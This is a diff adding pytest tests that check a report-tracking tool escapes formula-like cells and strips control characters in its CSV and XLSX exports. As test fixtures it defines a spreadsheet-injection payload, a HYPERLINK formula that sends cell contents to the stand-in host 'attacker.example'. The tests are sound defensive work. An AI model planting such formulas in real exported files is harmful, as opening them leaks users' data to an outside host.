@@ -180,3 +180,67 @@ def test_an_unknown_indicator_becomes_a_placeholder(database: Database, tmp_path
     assert result.indicators_created == ["my-own-count"]
     (obs,) = observations.list_observations(database, "my-own-count")
     assert (obs.value, obs.as_of, obs.source_count) == (12, date(2026, 2, 1), 0)
+
+
+# --- spreadsheets never run what a report says (issue 12, item 19) ------------------------------
+
+HOSTILE_PUBLISHER = "=1+1"
+HOSTILE_URL = '=HYPERLINK("http://attacker.example/?"&A1,"bấm vào đây")'
+CONTROL_TITLE = "Báo cáo\x07 quý\x1b III"
+
+
+def _fill_hostile(db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
+    factory.fake_matcher(monkeypatch)
+    factory.indicators(db)
+    r = factory.report(
+        db,
+        TEXT_A,
+        [Fig("hơn 67 triệu tài khoản", 67 * M, "more_than", as_of=date(2026, 1, 16))],
+        url=HOSTILE_URL,
+        title=CONTROL_TITLE,
+        publisher=HOSTILE_PUBLISHER,
+    )
+    review.accept(db, r.mention_ids[0], indicator="vneid-activated-accounts", actor="t")
+
+
+def test_csv_cells_that_look_like_formulas_are_escaped_and_come_back(
+    database: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    _fill_hostile(database, monkeypatch)
+    path = tmp_path / "obs.csv"
+    exports.export_observations(database, path)
+    text = path.read_text(encoding="utf-8")
+    assert ",'=1+1," in text
+    assert "'=HYPERLINK(" in text
+    # no cell of the file starts with a formula character
+    import csv as _csv
+
+    for row in _csv.reader(io.StringIO(text)):
+        for cell in row:
+            assert cell[:1] not in ("=", "+", "@"), cell
+    rows = exports.parse(path.read_bytes(), "csv")
+    assert rows[0]["publisher"] == HOSTILE_PUBLISHER
+    assert rows[0]["source_url"] == HOSTILE_URL
+
+
+def test_xlsx_has_no_formula_and_survives_control_characters(
+    database: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    _fill_hostile(database, monkeypatch)
+    path = tmp_path / "obs.xlsx"
+    exports.export_observations(database, path)  # raised IllegalCharacterError before
+    wb = load_workbook(path)  # not read-only: data_type tells a formula from text
+    ws = wb.worksheets[0]
+    header = [c.value for c in ws[1]]
+    row = dict(zip(header, ws[2], strict=True))
+    assert all(c.data_type != "f" for c in ws[2])
+    assert row["publisher"].value == "'=1+1"
+    assert row["report_title"].value == "Báo cáo quý III"
+    wb.close()
+    back = exports.parse(path.read_bytes(), "xlsx")
+    assert back[0]["publisher"] == HOSTILE_PUBLISHER
+
+
+@pytest.mark.parametrize("text", ["plain", "'quoted", "''=x", "-5 đồng", "+84 912", "@user", "=", "'"])
+def test_cell_escaping_round_trips(text: str) -> None:
+    assert exports._uncell_text(exports._cell_text(text)) == text
